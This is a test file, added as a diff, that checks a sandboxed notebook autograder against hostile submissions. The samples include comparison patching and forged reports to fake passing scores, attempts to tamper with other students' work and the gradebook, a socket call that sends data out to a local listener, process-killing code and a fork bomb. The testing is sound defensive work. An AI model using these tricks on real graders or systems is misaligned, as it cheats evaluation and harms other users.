@@ -1,0 +1,350 @@
+"""Hostile submissions, written here so that none reaches a real gradebook, graded in one batch
+of the fixture course with `course_kit.instructor.grade` (sandboxed, judged):
+
+* tricks inside the kernel (custom exception handler, input transformer wrapping every later
+  cell in try/except, patched comparisons, forged reports, a replaced course_lib.grading):
+  none gains a point over the same answers without the trick;
+* attacks on the grader (write another student's copy or the gradebook, read solutions/, open
+  a socket, allocate 3 GiB, print 50 MB, kill its parent and every process it can, a bounded
+  fork bomb): none harms another student, and every student gets a row and a feedback page;
+* honest work with broken nbgrader cells (a duplicated test cell, renamed ids, code pasted
+  into a new notebook) still gets its marks, with the repair named in the notes.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import socket
+import threading
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_notebook
+from nbgrader_fixture import ANSWERS, make_course, make_submission
+
+from course_kit import instructor, sandbox
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(
+        sandbox.sandbox_problem() is not None,
+        reason=f"bubblewrap cannot be used here: {sandbox.sandbox_problem()}",
+    ),
+]
+
+STUB_SQUARES = "def sum_of_squares(values):\n    return 0.0\n"  # right only for []
+SHAPE_ONLY = "def normalise(values):\n    return np.zeros(len(values))\n"  # the right shape
+
+EXCEPTHOOK = (
+    """
+ip = get_ipython()
+ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
+"""
+    + STUB_SQUARES
+)
+
+TRANSFORMER = (
+    """
+def _wrap(lines):
+    body = "".join("    " + line for line in lines) or "    pass\\n"
+    return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
+get_ipython().input_transformers_post.append(_wrap)
+"""
+    + STUB_SQUARES
+)
+
+PATCHED = (
+    """
+import builtins, math, numpy, torch
+numpy.allclose = lambda *a, **k: True
+numpy.isclose = lambda *a, **k: numpy.True_
+numpy.testing.assert_allclose = lambda *a, **k: None
+math.isclose = lambda *a, **k: True
+torch.allclose = lambda *a, **k: True
+builtins.abs = lambda x: 0.0
+"""
+    + STUB_SQUARES
+)
+
+# reports forged after every cell (they land in the test cells' outputs), with the visible
+# values the student knows and guesses for the hidden ones
+FORGED = (
+    """
+from IPython.display import display
+MIME = "application/vnd.course-kit.report+json"
+GUESS = {
+    "squares-1-2": {"float": 5.0}, "squares-empty": {"float": 0.0},
+    "squares-arange": {"float": 300.0},
+    "normalise-3-4": {"array": [0.6, 0.8], "nonfinite": [False, False], "dtype": "float64",
+                      "shape": [2]},
+    "normalise-hidden": {"array": [0.5, -0.5, 0.5], "nonfinite": [False] * 3,
+                         "dtype": "float64", "shape": [3]},
+    "normalise-negative": {"array": [-0.6, 0.0, 0.8], "nonfinite": [False] * 3,
+                           "dtype": "float64", "shape": [3]},
+}
+def _forge(result):
+    for key, value in GUESS.items():
+        display({MIME: {"key": key, "value": value, "judging": {"rtol": 1e9}},
+                 "text/plain": ""}, raw=True)
+    display({MIME: {"key": "normalise-zeros", "raised": "ValueError", "message": ""},
+             "text/plain": ""}, raw=True)
+get_ipython().events.register("post_run_cell", _forge)
+"""
+    + STUB_SQUARES
+)
+
+# course_lib.grading replaced: report() sends the guesses instead of calling the student's code
+REPLACED = (
+    FORGED.replace('get_ipython().events.register("post_run_cell", _forge)', "")
+    + """
+import course_lib.grading as g, sys, types
+def report(key, compute, **judging):
+    value = GUESS.get(key, {"float": 0.0})
+    display({MIME: {"key": key, "value": value, "judging": {}}, "text/plain": ""}, raw=True)
+g.report = report
+g.check_close = lambda *a, **k: None
+g.check_implemented = lambda f, *a, **k: None
+fake = types.ModuleType("course_lib.grading")
+fake.__dict__.update(g.__dict__)
+sys.modules["course_lib.grading"] = fake
+"""
+)
+
+KERNEL_TRICKS = {
+    "excepthook": EXCEPTHOOK,
+    "transformer": TRANSFORMER,
+    "patched": PATCHED,
+    "forged": FORGED,
+    "replaced": REPLACED,
+}
+
+
+def vandal(root, port):
+    """Everything a submission could try against the grader and the other students."""
+    return (
+        f"""
+import os, socket, sqlite3
+ROOT = {str(root)!r}
+def attempt(name, fn):
+    try:
+        fn(); print(name, "SUCCEEDED")
+    except BaseException as err:
+        print(name, "failed:", type(err).__name__)
+def overwrite_alice():
+    with open(ROOT + "/grading/submitted/alice/demo/demo.ipynb", "w") as fh:
+        fh.write("{{}}")
+def write_gradebook():
+    con = sqlite3.connect(ROOT + "/grading/gradebook.db")
+    con.execute("UPDATE grade SET manual_score = 99")
+    con.commit()
+def read_solutions():
+    print(open(ROOT + "/solutions/demo/demo.ipynb").read()[:50])
+def phone_home():
+    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"STOLEN")
+def own_gradebook():  # the sandbox's own copy: allowed, and worthless
+    con = sqlite3.connect("/course/gradebook.db")
+    con.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
+    con.commit()
+for name, fn in [("overwrite-alice", overwrite_alice), ("write-gradebook", write_gradebook),
+                 ("read-solutions", read_solutions), ("socket", phone_home),
+                 ("own-gradebook", own_gradebook)]:
+    attempt(name, fn)
+"""
+        + STUB_SQUARES
+    )
+
+
+MEMORY = """
+import numpy as np
+try:
+    big = np.ones(3 * 2**30, dtype=np.uint8)
+    print("ALLOCATED", big.nbytes)
+except MemoryError:
+    print("3 GiB: MemoryError")
+"""
+
+PRINTER = "print('y' * 50_000_000)\n"
+
+KILLER = """
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)
+"""
+
+FORK_BOMB = """
+import os, time
+children = []
+try:
+    for _ in range(2000):  # bounded
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(2)
+            os._exit(0)
+        children.append(pid)
+    print("FORKED ALL", len(children))
+except OSError as err:
+    print("FORK STOPPED AFTER", len(children), type(err).__name__)
+for pid in children:
+    os.waitpid(pid, 0)
+"""
+
+GOOD = ANSWERS["correct"]
+
+
+def with_answers(released, squares, normalise=None):
+    nb = make_submission(released, "untouched")
+    for cell in nb.cells:
+        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if gid == "squares":
+            cell.source = squares
+        if gid == "normalise" and normalise is not None:
+            cell.source = normalise
+    return nb
+
+
+class Listener:
+    """A loopback TCP server that records whatever reaches it."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(5)
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.received = []
+        self.stop = False
+        self.thread = threading.Thread(target=self.run, daemon=True)
+        self.thread.start()
+
+    def run(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+                self.received.append(conn.recv(100))
+                conn.close()
+            except OSError:
+                continue
+
+
+def digest(path):
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("hostile")
+    root = make_course(tmp)
+    [released] = instructor.release(root)
+    listener = Listener()
+    subs = tmp / "subs"
+    notebooks = {
+        # honest references: what the tricks must not beat
+        "alice": with_answers(released, GOOD["squares"], GOOD["normalise"]),
+        "shapeonly": with_answers(released, STUB_SQUARES, SHAPE_ONLY),
+        **{k: with_answers(released, v, SHAPE_ONLY) for k, v in KERNEL_TRICKS.items()},
+        "vandal": with_answers(released, vandal(root, listener.port), SHAPE_ONLY),
+        "memory": with_answers(released, MEMORY + GOOD["squares"], GOOD["normalise"]),
+        "printer": with_answers(released, PRINTER + GOOD["squares"], GOOD["normalise"]),
+        "killer": with_answers(released, KILLER + GOOD["squares"], GOOD["normalise"]),
+        "forkbomb": with_answers(released, FORK_BOMB + GOOD["squares"], GOOD["normalise"]),
+        "zed": with_answers(released, GOOD["squares"], GOOD["normalise"]),  # graded after all
+    }
+    dup = make_submission(released, "correct")
+    dup.cells.insert(4, nbformat.from_dict(dup.cells[3]))
+    notebooks["duplicated"] = dup
+    renamed = make_submission(released, "correct")
+    for cell in renamed.cells:
+        cell.metadata["nbgrader"]["grade_id"] += "-mine"
+    notebooks["renamed"] = renamed
+    notebooks["pasted"] = new_notebook(
+        cells=[
+            new_code_cell("import numpy as np"),
+            new_code_cell(GOOD["squares"]),
+            new_code_cell(GOOD["normalise"]),
+        ]
+    )
+    for student, nb in notebooks.items():
+        (subs / student).mkdir(parents=True)
+        nbformat.write(nb, subs / student / "demo.ipynb")
+    # alice is graded first (alone) so that the vandal has her copy and her grades to attack
+    (tmp / "first" / "alice").mkdir(parents=True)
+    nbformat.write(notebooks["alice"], tmp / "first" / "alice" / "demo.ipynb")
+    instructor.grade("demo", tmp / "first", root=root, timeout=20)
+    alice_copy = root / "grading" / "submitted" / "alice" / "demo" / "demo.ipynb"
+    before = digest(alice_copy)
+    rows = instructor.grade("demo", subs, root=root, timeout=20)
+    listener.stop = True
+    return root, {r.student: r for r in rows}, before, digest(alice_copy), listener
+
+
+def page(root, row):
+    return (root / row.feedback).read_text()
+
+
+def printed(root, student):
+    """What the student's cells printed, from the executed notebook (not the page, whose
+    source listing also holds the strings the code prints)."""
+    path = root / "grading" / "autograded" / student / "demo" / "demo.ipynb"
+    nb = nbformat.read(path, 4)
+    return "".join(
+        o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
+    )
+
+
+def test_every_student_gets_a_row_and_a_feedback_page(batch):
+    root, rows, *_ = batch
+    assert len(rows) == 16
+    for student, row in rows.items():
+        assert (root / row.feedback).is_file(), student
+    with open(root / "grading" / "grades_demo.csv") as fh:
+        assert sorted(r["student"] for r in csv.DictReader(fh)) == sorted(rows)
+
+
+@pytest.mark.parametrize("trick", sorted(KERNEL_TRICKS))
+def test_kernel_tricks_gain_nothing(batch, trick):
+    _, rows, *_ = batch
+    honest = rows["shapeonly"].score
+    assert rows[trick].score == honest == 0, (trick, rows[trick])
+
+
+def test_a_vandal_harms_no_one(batch):
+    root, rows, before, after, listener = batch
+    assert before == after  # alice's submitted copy is untouched
+    assert rows["alice"].score == 6 and rows["zed"].score == 6
+    assert rows["vandal"].score == 0  # not even with its own sandbox gradebook at 99
+    text = printed(root, "vandal")
+    for attack in ("overwrite-alice", "write-gradebook", "read-solutions", "socket"):
+        assert f"{attack} failed" in text, attack
+    assert "own-gradebook SUCCEEDED" in text  # its private copy: allowed, worthless
+    assert listener.received == []
+    from nbgrader.api import Gradebook
+
+    with Gradebook(f"sqlite:///{root / 'grading' / 'gradebook.db'}") as gb:
+        for student in rows:
+            sub = gb.find_submission("demo", student)
+            assert all(g.manual_score is None for nb in sub.notebooks for g in nb.grades)
+
+
+def test_resource_attacks_stay_in_their_sandbox(batch):
+    root, rows, *_ = batch
+    memory = printed(root, "memory")
+    assert "ALLOCATED" not in memory and rows["memory"].score == 6
+    assert "3 GiB: MemoryError" in memory
+    assert rows["printer"].score == 6
+    assert (root / rows["printer"].feedback).stat().st_size < 1_500_000
+    assert rows["killer"].status.startswith("not graded") and rows["killer"].score == 0
+    assert "not graded" in page(root, rows["killer"])
+    bomb = printed(root, "forkbomb")
+    assert "FORK STOPPED AFTER" in bomb and "FORKED ALL" not in bomb
+    assert rows["forkbomb"].score == 6
+    assert "yyyyyyyyyy" in printed(root, "printer")  # printed, then capped
+
+
+def test_honest_work_with_broken_cells_gets_its_marks(batch):
+    _, rows, *_ = batch
+    for student in ("duplicated", "renamed", "pasted"):
+        assert rows[student].score == 6, rows[student]
+    assert any("same nbgrader id" in n for n in rows["duplicated"].notes)
+    assert any("answer 'squares'" in n for n in rows["renamed"].notes)
+    assert any("no nbgrader cells" in n for n in rows["pasted"].notes)
